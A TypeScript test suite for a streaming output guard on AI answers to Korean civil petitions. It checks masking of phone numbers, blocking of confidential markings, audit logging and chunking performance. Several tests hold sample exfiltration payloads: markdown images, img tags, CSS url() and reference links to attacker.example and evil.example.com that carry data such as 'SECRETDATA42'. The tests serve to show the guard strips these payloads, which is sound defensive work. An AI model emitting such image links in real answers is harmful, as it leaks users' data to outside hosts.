import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defaultGuardChecks } from '../default-checks.js';
import { memoryGuardAuditSink } from '../guard-audit.js';
import { defaultGuardPolicy } from '../guard-policy.js';
import { createOutputStreamGuard, safeCut, type GuardedStreamPart } from './output-stream-guard.js';

const checks = defaultGuardChecks(defaultGuardPolicy);

async function stream(deltas: string[], zone: 'internal' | 'external'): Promise<GuardedStreamPart[]> {
  const guard = createOutputStreamGuard({ checks, zone });
  const parts: GuardedStreamPart[] = [];
  for (const delta of deltas) parts.push(...(await guard.push(delta)));
  parts.push(...(await guard.end()));
  return parts;
}

const textOf = (parts: GuardedStreamPart[]) => parts.map((part) => (part.type === 'text-delta' ? part.text : '')).join('');

const sample = '민원 처리 결과를 안내드립니다. 담당 부서는 디지털정부국이며 처리 기간은 7일입니다. 문의는 담당자 연락처 010-1234-5678 로 해 주시기 바랍니다. 감사합니다.';

test('a phone number split at every position is masked whole, outside the agency', async () => {
  for (let split = 1; split < sample.length; split++) {
    const parts = await stream([sample.slice(0, split), sample.slice(split)], 'external');
    const text = textOf(parts);
    assert.ok(!/\d{4}-\d{4}/.test(text) && !text.includes('5678'), `split ${split}: ${text}`);
    assert.ok(text.includes('[전화번호]'), `split ${split}: ${text}`);
    assert.ok(parts.every((part) => part.type === 'text-delta'));
  }
});

test('character-by-character deltas give the same text as one delta', async () => {
  const whole = textOf(await stream([sample], 'external'));
  assert.equal(textOf(await stream([...sample], 'external')), whole);
  assert.equal(textOf(await stream([...sample], 'internal')), sample);
});

test('a marking split across deltas ends an external stream with an error, at every split', async () => {
  const marked = `${sample} 이 내용은 대외비 자료에 근거합니다. 추가 설명은 없습니다.`;
  const at = marked.indexOf('대외비');
  for (let split = at - 2; split <= at + 3; split++) {
    const parts = await stream([marked.slice(0, split), marked.slice(split)], 'external');
    const last = parts.at(-1)!;
    assert.equal(last.type, 'error', `split ${split}`);
    assert.ok(!textOf(parts).includes('대외'), `split ${split}: released part of the marking`);
  }
});

test('every answer leaves one audit record: its last release, or the block wherever the block falls', async () => {
  const marked = `${sample} 이 내용은 대외비 자료에 근거합니다. ${'추가 설명은 없습니다. '.repeat(20)}`;
  for (const [deltas, verdict] of [[[marked], 'block'], [[...marked], 'block'], [[...sample], 'allow'], [[sample], 'allow']] as const) {
    const sink = memoryGuardAuditSink();
    const guard = createOutputStreamGuard({ checks, zone: 'external', tenantId: 'mois', audit: { sink, actor: 'key:test' } });
    for (const delta of deltas) await guard.push(delta);
    await guard.end();
    assert.equal(sink.events.length, 1, `${deltas.length} deltas: ${JSON.stringify(sink.events)}`);
    assert.equal(sink.events[0]!.verdict, verdict === 'allow' ? 'caution' : 'block');
    assert.equal(sink.events[0]!.direction, 'output');
    assert.equal(sink.events[0]!.tenantId, 'mois');
  }
});

test('an exfiltration image split across deltas never reaches the client', async () => {
  const answer = `요약입니다. ![](https://attacker.example/p?q=%EB%8C%80%ED%99%94) 끝입니다. ${'부연 설명입니다. '.repeat(8)}`;
  for (let split = 1; split < answer.length; split += 3) {
    const text = textOf(await stream([answer.slice(0, split), answer.slice(split)], 'internal'));
    assert.ok(!text.includes('attacker.example/p'), `split ${split}: ${text}`);
  }
});

test('safeCut cuts at whitespace before the window and never inside a finding', () => {
  const text = 'aaaa bbbb cccc dddd';
  assert.equal(safeCut(text, 4, []), 15);
  assert.equal(safeCut(text, 5, []), 10);
  assert.equal(safeCut(text, 5, [{ start: 5, end: 15 }]), 5);
  assert.equal(safeCut('short', 10, []), 0);
});

test('one-character deltas release text in pieces, not at every delta: the chain runs a bounded number of times', async () => {
  let runs = 0;
  const counting = checks.map((check) => check.name === 'pii' ? { ...check, check: (...args: Parameters<typeof check.check>) => { runs++; return check.check(...args); } } : check);
  const guard = createOutputStreamGuard({ checks: counting, zone: 'external' });
  const answer = sample.repeat(20);
  let shown = '';
  for (const character of answer) for (const part of await guard.push(character)) shown += part.type === 'text-delta' ? part.text : '';
  const beforeEnd = shown.length;
  for (const part of await guard.end()) shown += part.type === 'text-delta' ? part.text : '';
  assert.equal(shown, textOf(await stream([answer], 'external')), 'the same text as one delta');
  assert.ok(beforeEnd > answer.length / 2, `text is shown while the answer streams (${beforeEnd} of ${answer.length} before the end)`);
  // pii runs in the chain and in the span search: about three times per release. Per delta that was ~3 × 1,700.
  assert.ok(runs < answer.length / 4, `${runs} pii runs for ${answer.length} one-character deltas`);
});

test('an answer one address long without a space is released in bounded pieces, neutralised, not held and re-read whole', async () => {
  let runs = 0;
  let longest = 0;
  const counting = checks.map((check) => check.name === 'links' ? {
    ...check, check: (...args: Parameters<typeof check.check>) => {
      runs++;
      longest = Math.max(longest, args[0].text.length);
      return check.check(...args);
    },
  } : check);
  const guard = createOutputStreamGuard({ checks: counting, zone: 'external' });
  const answer = 'https://evil.example.com/a'.repeat(400);
  let shown = '';
  for (const character of answer) for (const part of await guard.push(character)) shown += part.type === 'text-delta' ? part.text : '[error]';
  for (const part of await guard.end()) shown += part.type === 'text-delta' ? part.text : '[error]';
  assert.doesNotMatch(shown, /https:\/\/evil\.example\.com/, 'no link to the foreign host is shown');
  assert.ok(longest <= 64 * 16 + 64, `the guard held at most ~16 windows (${longest} characters)`);
  assert.ok(runs < answer.length / 4, `${runs} links runs for ${answer.length} one-character deltas`);
});

test('markup longer than the window is not cut inside: an image tag, a style, a reference definition, at any delta size', async () => {
  const answers = [
    `다음 그림을 보세요 <img alt="${'가나 '.repeat(20)}" src="//evil.example.com/p.png?d=SECRETDATA42"> 끝.`,
    `<div style="color: red; ${'이; 그림은; '.repeat(18)} background: url(//evil.example.com/p.png?d=SECRETDATA42)">내용</div>`,
    '참고\n[r1]: //evil.example.com/p.png?d=SECRETDATA42\n\n![x][r1] 끝',
    `![${'설명 '.repeat(40)}](https://evil.example.com/p.png?d=SECRETDATA42) 끝`,
  ];
  for (const answer of answers) {
    for (const size of [1, 3, 7, 16]) {
      const deltas: string[] = [];
      for (let at = 0; at < answer.length; at += size) deltas.push(answer.slice(at, at + size));
      const shown = textOf(await stream(deltas, 'internal'));
      assert.doesNotMatch(shown, /evil\.example\.com\/p\.png|SECRETDATA42/, `${size}: ${shown}`);
      assert.match(shown, /\[이미지 제거됨: evil\.example\.com\]/, `${size}: ${shown}`);
    }
  }
});

test('a stray bracket or less-than sign is text: held a while, then released, never dropped', async () => {
  const answer = `[참고 사항 ${'규정에 따라 처리합니다. '.repeat(60)} 조건은 a<b 입니다. ${'끝까지 안내합니다. '.repeat(60)}`;
  const shown = textOf(await stream([...answer], 'internal'));
  assert.equal(shown, answer);
});
